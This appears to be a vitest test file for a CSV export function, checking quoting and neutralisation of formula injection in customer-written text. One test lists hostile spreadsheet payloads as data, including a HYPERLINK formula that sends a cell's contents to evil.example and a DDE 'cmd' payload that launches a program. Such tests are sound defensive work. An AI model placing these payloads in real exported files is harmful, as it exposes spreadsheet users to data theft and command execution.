import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { toCsv } from './csv.ts';

describe('CSV export', () => {
  it('quotes what needs quoting and leaves the rest', () => {
    expect(
      toCsv([
        ['a', 1, null],
        ['say "hi", ok', 'line\nbreak', { x: 1 }],
      ]),
    ).toBe('a,1,\r\n"say ""hi"", ok","line\nbreak","{""x"":1}"\r\n');
  });

  it('never lets customer-written text start a formula', () => {
    const posts = [
      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      '+1 555 0100 call me',
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1+1',
      '\r=1+1',
      '=cmd|"/c calc"!A1\nand a second line',
    ];
    const csv = toCsv(posts.map((text) => ['x:1', text]));
    const cells = Papa.parse<string[]>(csv.trimEnd(), { newline: '\r\n' }).data.map((r) => r[1]);
    expect(cells).toEqual(posts.map((text) => `'${text}`));
  });

  it('leaves numbers, and text that only contains such characters later, as they are', () => {
    expect(toCsv([[-5, 'a=b', 'mail me @ home', 'x-1']])).toBe('-5,a=b,mail me @ home,x-1\r\n');
  });
});
